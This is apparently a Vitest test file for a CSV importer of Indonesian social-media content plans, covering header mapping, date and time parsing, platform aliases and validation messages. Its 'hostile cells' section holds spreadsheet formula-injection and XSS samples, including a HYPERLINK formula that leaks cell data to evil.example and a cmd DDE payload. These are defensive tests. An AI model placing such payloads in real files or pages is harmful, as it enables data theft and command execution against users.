import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import {
  guessMapping,
  isWarning,
  missingRequiredFields,
  parsePlanCsv,
  parsePlatform,
  parseStatus,
  PLAN_CSV_TEMPLATE,
  rejectionMessage,
  validatePlanRows,
  validatePlanRowsChunked,
  type CsvRow,
  type PlanValidationContext,
  type ReasonCode,
  type RowReason,
} from '../../../lib/calendar/plan-csv';
import { Post } from '../../../lib/models';

const fixture = (name: string): string =>
  readFileSync(fileURLToPath(new URL(`../../fixtures/csv/${name}`, import.meta.url)), 'utf8');

const ctx: PlanValidationContext = {
  timeZone: 'Asia/Jakarta',
  campaigns: [
    { id: 'camp-ramadan', name: 'Promo Ramadan' },
    { id: 'camp-lebaran', name: 'Lebaran  Ceria' },
  ],
  now: Date.UTC(2025, 1, 1),
};

function run(text: string, c: PlanValidationContext = ctx) {
  const parsed = parsePlanCsv(text);
  return validatePlanRows(parsed.rows, guessMapping(parsed.headers), c);
}

const codes = (reasons: RowReason[]): ReasonCode[] => reasons.map((r) => r.code);

/** One data row under the template header. */
function one(cells: Partial<Record<'date' | 'time' | 'platform' | 'caption' | 'pillar' | 'campaign' | 'status' | 'link', string>>, c = ctx) {
  const order = ['date', 'time', 'platform', 'caption', 'pillar', 'campaign', 'status', 'link'] as const;
  const row: CsvRow = { rowNumber: 2, cells: order.map((f) => cells[f] ?? '') };
  return validatePlanRows([row], guessMapping([...order]), c);
}

describe('guessMapping', () => {
  it('maps English headers', () => {
    expect(guessMapping(['date', 'time', 'platform', 'caption', 'pillar', 'campaign', 'status', 'link'])).toEqual({
      date: 0,
      time: 1,
      platform: 2,
      caption: 3,
      pillar: 4,
      campaign: 5,
      status: 6,
      link: 7,
    });
  });

  it('maps Indonesian headers in any order, with spacing, case and extra columns', () => {
    const headers = ['No', 'Kanal', 'Tanggal Posting', 'Waktu', 'Keterangan', 'Pilar Konten', 'Nama Kampanye', 'STATUS', 'Tautan', 'PIC'];
    expect(guessMapping(headers)).toEqual({
      platform: 1,
      date: 2,
      time: 3,
      caption: 4,
      pillar: 5,
      campaign: 6,
      status: 7,
      link: 8,
    });
    expect(guessMapping(['Tgl', 'Jam', 'Platform', 'Caption', 'Pilar', 'Kampanye', 'Status', 'Link'])).toMatchObject({ date: 0, time: 1 });
  });

  it('uses each column once and reports missing required fields', () => {
    const m = guessMapping(['Caption', 'Konten', 'Platform']);
    expect(m).toEqual({ caption: 0, platform: 2 });
    expect(missingRequiredFields(m)).toEqual(['date']);
  });
});

describe('parsePlanCsv', () => {
  it('handles the BOM, the ; delimiter and quoted line breaks, numbering rows as a spreadsheet does', () => {
    const parsed = parsePlanCsv(fixture('plan-sample.csv'));
    expect(parsed.headers[0]).toBe('Tanggal');
    expect(parsed.headers).toHaveLength(8);
    expect(parsed.rows[0]?.cells[3]).toBe('Menu sahur praktis 🌙\nSimpan dulu, ya!');
    expect(parsed.rows[1]?.cells[3]).toBe('Flash sale 3.3, diskon 50%!');
    // header row 1, then 2..7, a blank row 8, then 9..13
    expect(parsed.rows.map((r) => r.rowNumber)).toEqual([2, 3, 4, 5, 6, 7, 9, 10, 11, 12, 13]);
  });

  it('honours an Excel "sep=" line', () => {
    const parsed = parsePlanCsv('sep=;\r\ntanggal;kanal;keterangan\r\n2025-03-01;ig;Halo, semua\r\n');
    expect(parsed.headers).toEqual(['tanggal', 'kanal', 'keterangan']);
    expect(parsed.rows).toEqual([{ rowNumber: 2, cells: ['2025-03-01', 'ig', 'Halo, semua'] }]);
  });

  it('reports an unclosed quote with its row number', () => {
    const parsed = parsePlanCsv('date,platform,caption\n2025-03-01,ig,"tidak ditutup\n2025-03-02,fb,ok\n');
    expect(parsed.errors).toEqual([{ rowNumber: 2, message: expect.stringMatching(/^MissingQuotes/) }]);
  });

  it('parses the template into valid rows', () => {
    const result = run(PLAN_CSV_TEMPLATE);
    expect(result.rejected).toEqual([]);
    expect(result.valid).toHaveLength(3);
    const [first, second, third] = result.valid;
    expect(first?.post.scheduledAt).toBe(Date.UTC(2025, 2, 3, 12, 0));
    expect(first?.post.campaignId).toBe('camp-ramadan');
    expect(first?.post.caption).toContain('\n');
    expect(second?.post.platforms).toEqual(['instagram', 'tiktok']);
    expect(second?.post.status).toBe('draft');
    expect(second?.post.link).toBe('https://contoh.co.id/flash-sale');
    expect(second?.post.utm).toEqual({ source: 'instagram', medium: 'social', campaign: 'promo-ramadan' });
    expect(third?.post).toMatchObject({ scheduledAt: null, status: 'idea', platforms: ['linkedin'] });
    for (const v of result.valid) {
      expect(Post.safeParse({ ...v.post, id: 'x', createdAt: 0, updatedAt: 0 }).success).toBe(true);
    }
  });
});

describe('validatePlanRows on the sample file', () => {
  const result = run(fixture('plan-sample.csv'), { ...ctx, now: Date.UTC(2025, 2, 1) });
  const valid = new Map(result.valid.map((v) => [v.rowNumber, v]));
  const rejected = new Map(result.rejected.map((r) => [r.rowNumber, r]));

  it('accepts good rows in every date and time format', () => {
    expect([...valid.keys()]).toEqual([2, 3, 4, 9, 13]);
    expect(valid.get(2)?.post.scheduledAt).toBe(Date.UTC(2025, 2, 3, 12, 0)); // 03/03/2025 19.00 WIB
    expect(valid.get(3)?.post.scheduledAt).toBe(Date.UTC(2025, 2, 5, 5, 0)); // 2025-03-05 12:00 WIB
    expect(valid.get(4)?.post.scheduledAt).toBe(Date.UTC(2025, 2, 7, 2, 0)); // 07-03-2025, default 09:00 WIB
    expect(valid.get(2)?.warnings).toEqual([]);
  });

  it('matches campaigns case-insensitively and keeps unknown ones unlinked with a warning', () => {
    expect(valid.get(3)?.post.campaignId).toBe('camp-ramadan');
    expect(valid.get(9)?.post.campaignId).toBeNull();
    expect(valid.get(9)?.warnings).toContainEqual({ code: 'unknown-campaign', field: 'campaign', params: { value: 'Kampanye Hantu' } });
  });

  it('warns (not rejects) for captions over the platform limit, defaulted time and completed links', () => {
    const over = valid.get(9)?.warnings.find((w) => w.code === 'caption-over-limit');
    expect(over?.params.platform).toBe('x');
    expect(over?.params.limit).toBe(280);
    expect(Number(over?.params.length)).toBeGreaterThan(280);
    expect(codes(valid.get(4)!.warnings)).toEqual(['time-defaulted']);
    expect(valid.get(3)?.post.link).toBe('https://contoh.co.id/flash-sale');
    expect(codes(valid.get(3)!.warnings)).toEqual(['link-scheme-added']);
    expect(valid.get(3)?.warnings.every(isWarning)).toBe(true);
  });

  it('reads a WITA time in Makassar time and splits UTM from the link', () => {
    const row = valid.get(13)!.post;
    expect(row.timeZone).toBe('Asia/Makassar');
    expect(row.scheduledAt).toBe(Date.UTC(2025, 2, 14, 12, 30));
    expect(row.platforms).toEqual(['linkedin']);
    expect(row.link).toBe('https://contoh.co.id/webinar');
    expect(row.utm).toEqual({ source: 'linkedin', medium: 'social', campaign: 'webinar-umkm' });
  });

  it('rejects bad rows with reasons, by spreadsheet row number', () => {
    expect([...rejected.keys()]).toEqual([5, 6, 7, 10, 11, 12]);
    expect(rejected.get(5)?.reasons).toEqual([{ code: 'invalid-date', field: 'date', params: { value: '31/02/2025' } }]);
    expect(rejected.get(6)?.reasons).toEqual([{ code: 'invalid-time', field: 'time', params: { value: '25.00' } }]);
    expect(rejected.get(7)?.reasons).toEqual([{ code: 'unknown-platform', field: 'platform', params: { value: 'friendster' } }]);
    expect(codes(rejected.get(10)!.reasons)).toEqual(['missing-platform']);
    expect(codes(rejected.get(11)!.reasons)).toEqual(['unknown-status']);
    expect(rejected.get(12)?.reasons).toEqual([{ code: 'invalid-link', field: 'link', params: { value: 'javascript:alert(1)' } }]);
    expect(result.valid.length + result.rejected.length).toBe(11);
  });
});

describe('validatePlanRows cell rules', () => {
  it.each([
    ['2025-03-10', '08:05', Date.UTC(2025, 2, 10, 1, 5)],
    ['10/03/2025', '08.05', Date.UTC(2025, 2, 10, 1, 5)],
    ['10-03-2025', '8:05', Date.UTC(2025, 2, 10, 1, 5)],
    ['1/3/2025', '20:00:00', Date.UTC(2025, 2, 1, 13, 0)],
    ['2025-03-10 19.30', '', Date.UTC(2025, 2, 10, 12, 30)],
    ['2025-03-10', '7:30 PM', Date.UTC(2025, 2, 10, 12, 30)],
    ['2025-03-10', '19.00 WIT', Date.UTC(2025, 2, 10, 10, 0)],
  ])('date %s time %s', (date, time, expected) => {
    const r = one({ date, time, platform: 'ig' });
    expect(r.rejected).toEqual([]);
    expect(r.valid[0]?.post.scheduledAt).toBe(expected);
  });

  it.each(['2025-13-01', '29/02/2025', '2025/02/29', 'besok', '03/10/25', '0205-03-01', '2025-03-10T19:00Z', '=TODAY()'])(
    'rejects date %s',
    (date) => {
      expect(codes(one({ date, time: '10:00', platform: 'ig' }).rejected[0]!.reasons)).toEqual(['invalid-date']);
    },
  );

  it.each(['24:00', '19:60', '1900', 'siang', '13:00 PM'])('rejects time %s', (time) => {
    expect(codes(one({ date: '2025-03-10', time, platform: 'ig' }).rejected[0]!.reasons)).toEqual(['invalid-time']);
  });

  it.each([
    ['ig', 'instagram'],
    ['Instagram', 'instagram'],
    ['FB', 'facebook'],
    ['twitter', 'x'],
    ['X (Twitter)', 'x'],
    ['x', 'x'],
    ['TikTok', 'tiktok'],
    ['tt', 'tiktok'],
    ['YT', 'youtube'],
    ['YouTube', 'youtube'],
    ['LinkedIn', 'linkedin'],
    ['li', 'linkedin'],
    ['threads', 'threads'],
    ['IG Reels', 'instagram'],
    ['YT Shorts', 'youtube'],
  ] as const)('platform %s → %s', (alias, platform) => {
    expect(parsePlatform(alias)).toBe(platform);
  });

  it('splits several platforms and drops duplicates', () => {
    const r = one({ date: '2025-03-10', time: '10:00', platform: 'IG; fb / ig + tt dan li' });
    expect(r.valid[0]?.post.platforms).toEqual(['instagram', 'facebook', 'tiktok', 'linkedin']);
  });

  it.each([
    ['ide', 'idea'],
    ['Idea', 'idea'],
    ['draf', 'draft'],
    ['Draft', 'draft'],
    ['terjadwal', 'scheduled'],
    ['Scheduled', 'scheduled'],
    ['terbit', 'published'],
    ['published', 'published'],
    ['terlewat', 'missed'],
  ] as const)('status %s → %s', (word, status) => {
    expect(parseStatus(word)).toBe(status);
  });

  it('defaults the status from the date and requires a date where it matters', () => {
    expect(one({ date: '2025-03-10', time: '10:00', platform: 'ig' }).valid[0]?.post.status).toBe('scheduled');
    expect(one({ platform: 'ig', caption: 'ide konten' }).valid[0]?.post).toMatchObject({ status: 'idea', scheduledAt: null });
    expect(one({ platform: 'ig', caption: 'draf', status: 'draf' }).valid[0]?.post).toMatchObject({ status: 'draft', scheduledAt: null });
    expect(codes(one({ platform: 'ig', status: 'terjadwal' }).rejected[0]!.reasons)).toEqual(['missing-date']);
    expect(codes(one({ platform: 'ig', time: '10:00' }).rejected[0]!.reasons)).toEqual(['missing-date']);
  });

  it('rejects "published" in the future and warns about "scheduled" in the past', () => {
    const now = Date.UTC(2025, 2, 10, 3, 0); // 10:00 WIB
    const future = one({ date: '2025-03-10', time: '11:00', platform: 'ig', status: 'terbit' }, { ...ctx, now });
    expect(codes(future.rejected[0]!.reasons)).toEqual(['published-in-future']);
    const past = one({ date: '2025-03-10', time: '09:00', platform: 'ig', status: 'terbit' }, { ...ctx, now });
    expect(past.valid[0]?.post.publishedAt).toBe(Date.UTC(2025, 2, 10, 2, 0));
    const late = one({ date: '2025-03-10', time: '09:00', platform: 'ig' }, { ...ctx, now });
    expect(codes(late.valid[0]!.warnings)).toEqual(['scheduled-in-past']);
  });

  it('collects every reason of a row', () => {
    const r = one({ date: 'kemarin', platform: 'myspace', status: 'beres', link: 'ftp://x.id' });
    expect(codes(r.rejected[0]!.reasons)).toEqual(['unknown-platform', 'unknown-status', 'invalid-date', 'invalid-link']);
  });

  it('rejects captions over 20,000 characters and warns per platform below that', () => {
    const long = one({ date: '2025-03-10', time: '10:00', platform: 'ig', caption: 'a'.repeat(20_001) });
    expect(long.rejected[0]?.reasons[0]).toMatchObject({ code: 'too-long', field: 'caption', params: { max: 20_000, length: 20_001 } });
    const threads = one({ date: '2025-03-10', time: '10:00', platform: 'threads, ig', caption: 'b'.repeat(501) });
    expect(threads.valid[0]?.warnings).toEqual([
      { code: 'caption-over-limit', field: 'caption', params: { platform: 'threads', limit: 500, length: 501 } },
    ]);
    // X counts emoji as two
    const x = one({ date: '2025-03-10', time: '10:00', platform: 'x', caption: '🌙'.repeat(141) });
    expect(x.valid[0]?.warnings[0]?.params).toMatchObject({ platform: 'x', length: 282 });
  });

  it('canonicalises pillars against the plan when given', () => {
    const r = one({ date: '2025-03-10', time: '10:00', platform: 'ig', pillar: ' edukasi ' }, { ...ctx, pillars: ['Edukasi'] });
    expect(r.valid[0]?.post.pillar).toBe('Edukasi');
    const u = one({ date: '2025-03-10', time: '10:00', platform: 'ig', pillar: 'Kuis' }, { ...ctx, pillars: ['Edukasi'] });
    expect(codes(u.valid[0]!.warnings)).toEqual(['unknown-pillar']);
    expect(u.valid[0]?.post.pillar).toBe('Kuis');
  });

  it('matches campaign names ignoring case and spacing, and by id', () => {
    expect(one({ platform: 'ig', campaign: 'lebaran ceria' }).valid[0]?.post.campaignId).toBe('camp-lebaran');
    expect(one({ platform: 'ig', campaign: 'camp-ramadan' }).valid[0]?.post.campaignId).toBe('camp-ramadan');
  });

  it('warns about a time skipped by a DST change', () => {
    const r = one({ date: '2025-03-09', time: '02:30', platform: 'x' }, { ...ctx, timeZone: 'America/New_York' });
    expect(r.valid[0]?.post.scheduledAt).toBe(Date.UTC(2025, 2, 9, 7, 30));
    expect(codes(r.valid[0]!.warnings)).toEqual(['dst-shifted']);
  });

  it('flags duplicate rows', () => {
    const rows: CsvRow[] = [
      { rowNumber: 2, cells: ['2025-03-10', '10:00', 'ig', 'Sama'] },
      { rowNumber: 3, cells: ['2025-03-10', '10.00', 'instagram', 'Sama'] },
      { rowNumber: 4, cells: ['', '', '', ''] },
    ];
    const r = validatePlanRows(rows, { date: 0, time: 1, platform: 2, caption: 3 }, ctx);
    expect(r.valid[1]?.warnings).toEqual([{ code: 'duplicate-row', field: null, params: { row: 2 } }]);
    expect(r.skipped).toEqual([4]);
  });

  it('refuses an unknown plan time zone or default time', () => {
    expect(() => validatePlanRows([], {}, { ...ctx, timeZone: 'WIB' })).toThrow(RangeError);
    expect(() => validatePlanRows([], {}, { ...ctx, defaultTime: '9 pagi' })).toThrow(RangeError);
  });
});

describe('hostile cells', () => {
  const result = run(fixture('plan-hostile.csv'));

  it('keeps formula-like and markup text verbatim as plain text', () => {
    expect(result.rejected).toEqual([]);
    const captions = result.valid.map((v) => v.post.caption);
    expect(captions).toEqual([
      '=HYPERLINK("http://evil.example/?leak="&A1,"Klik di sini")',
      '+62 812-3456-7890 hubungi kami',
      '-10% untuk member baru',
      "=cmd|' /C calc'!A0",
      "<script>alert('xss')</script>",
      '\tTab di depan',
      '<img src=x onerror=alert(1)>',
    ]);
    expect(result.valid.map((v) => v.post.pillar)).toEqual(['Promosi', '=1+1', '@SUM(A1:A9)', 'Edukasi', '<b>Pilar</b>', 'Edukasi', 'Edukasi']);
  });

  it('removes only the guard quote our export adds', () => {
    const rows: CsvRow[] = [
      { rowNumber: 2, cells: ['', '', 'ig', "'=1+1"] },
      { rowNumber: 3, cells: ['', '', 'ig', "''=1+1"] },
      { rowNumber: 4, cells: ['', '', 'ig', "'quoted"] },
    ];
    const r = validatePlanRows(rows, { date: 0, time: 1, platform: 2, caption: 3 }, ctx);
    expect(r.valid.map((v) => v.post.caption)).toEqual(['=1+1', "'=1+1", "'quoted"]);
  });
});

describe('rejectionMessage', () => {
  const samples: RowReason[] = [
    { code: 'missing-platform', field: 'platform', params: {} },
    { code: 'unknown-platform', field: 'platform', params: { value: 'myspace' } },
    { code: 'missing-date', field: 'date', params: {} },
    { code: 'invalid-date', field: 'date', params: { value: '31/02/2025' } },
    { code: 'invalid-time', field: 'time', params: { value: '25.00' } },
    { code: 'unknown-status', field: 'status', params: { value: 'selesai' } },
    { code: 'invalid-link', field: 'link', params: { value: 'javascript:alert(1)' } },
    { code: 'too-long', field: 'caption', params: { max: 20_000, length: 20_001 } },
    { code: 'published-in-future', field: 'status', params: { date: '2025-03-10 11:00' } },
    { code: 'caption-over-limit', field: 'caption', params: { platform: 'x', limit: 280, length: 342 } },
    { code: 'unknown-campaign', field: 'campaign', params: { value: 'Kampanye Hantu' } },
    { code: 'unknown-pillar', field: 'pillar', params: { value: 'Kuis' } },
    { code: 'time-defaulted', field: 'time', params: { time: '09:00' } },
    { code: 'scheduled-in-past', field: 'date', params: { date: '2025-03-01 10:00' } },
    { code: 'link-scheme-added', field: 'link', params: { value: 'https://contoh.co.id' } },
    { code: 'duplicate-row', field: null, params: { row: 2 } },
    { code: 'dst-shifted', field: 'time', params: { time: '02:30', zone: 'America/New_York' } },
  ];

  it('renders every code in both languages with its parameters filled in', () => {
    for (const r of samples) {
      for (const lang of ['id', 'en'] as const) {
        const msg = rejectionMessage(r, lang);
        expect(msg, `${r.code}/${lang}`).not.toMatch(/[{}]/);
        for (const v of Object.values(r.params)) {
          if (typeof v === 'string' && r.code !== 'caption-over-limit') expect(msg).toContain(v);
        }
      }
      expect(rejectionMessage(r, 'id')).not.toBe(rejectionMessage(r, 'en'));
    }
  });

  it('formats numbers and names per language', () => {
    const tooLong = samples[7]!;
    expect(rejectionMessage(tooLong, 'id')).toBe('Caption terlalu panjang (20.001 karakter, maksimal 20.000).');
    expect(rejectionMessage(tooLong, 'en')).toBe('Caption is too long (20,001 characters, maximum 20,000).');
    expect(rejectionMessage(samples[9]!, 'en')).toContain('X limit (280)');
    expect(rejectionMessage(samples[1]!, 'id')).toBe('Platform “myspace” tidak dikenal. Gunakan ig, fb, x, tiktok, yt, linkedin atau threads.');
  });
});

function bigCsv(rows: number): string {
  const platforms = ['ig', 'fb', 'x', 'tiktok', 'yt', 'linkedin', 'threads'];
  const lines = ['tanggal;jam;kanal;keterangan;pilar;kampanye;status;tautan'];
  for (let i = 0; i < rows; i++) {
    const day = (i % 28) + 1;
    const month = (Math.floor(i / 28) % 12) + 1;
    lines.push(
      `${String(day).padStart(2, '0')}/${String(month).padStart(2, '0')}/2026;${String(8 + (i % 12)).padStart(2, '0')}.${i % 2 ? '30' : '00'};${platforms[i % 7]};"Konten #${i}: promo, tips; dan cerita";Edukasi;Promo Ramadan;terjadwal;https://contoh.co.id/p/${i}`,
    );
  }
  return lines.join('\r\n');
}

describe('volume', () => {
  it('validates 10,000 rows in under 500 ms', () => {
    const parsed = parsePlanCsv(bigCsv(10_000));
    const mapping = guessMapping(parsed.headers);
    const r = validatePlanRows(parsed.rows, mapping, ctx);
    expect(r.valid).toHaveLength(10_000);
    expect(r.valid[9_999]?.rowNumber).toBe(10_001);
  });

  it('parses 100,000 rows quickly', () => {
    const text = bigCsv(100_000);
    const parsed = parsePlanCsv(text);
    expect(parsed.rows).toHaveLength(100_000);
    expect(parsed.rows[99_999]?.cells[3]).toBe('Konten #99999: promo, tips; dan cerita');
  });

  it('validates in chunks, yielding between them and reporting progress', async () => {
    const parsed = parsePlanCsv(bigCsv(5_000));
    const mapping = guessMapping(parsed.headers);
    let timerRan = false;
    setTimeout(() => {
      timerRan = true;
    }, 0);
    const progress: Array<[number, number, boolean]> = [];
    const chunked = await validatePlanRowsChunked(parsed.rows, mapping, ctx, (done, total) => progress.push([done, total, timerRan]), {
      chunkSize: 1_000,
    });
    expect(progress.map(([d, t]) => [d, t])).toEqual([
      [1000, 5000],
      [2000, 5000],
      [3000, 5000],
      [4000, 5000],
      [5000, 5000],
    ]);
    expect(progress[0]?.[2]).toBe(false);
    expect(progress[4]?.[2]).toBe(true);
    expect(chunked).toEqual(validatePlanRows(parsed.rows, mapping, ctx));
  });

  it('stops when aborted', async () => {
    const parsed = parsePlanCsv(bigCsv(3_000));
    const controller = new AbortController();
    const seen: number[] = [];
    const promise = validatePlanRowsChunked(
      parsed.rows,
      guessMapping(parsed.headers),
      ctx,
      (done) => {
        seen.push(done);
        controller.abort();
      },
      { chunkSize: 1_000, signal: controller.signal },
    );
    await expect(promise).rejects.toThrow();
    expect(seen).toEqual([1000]);
  });
});
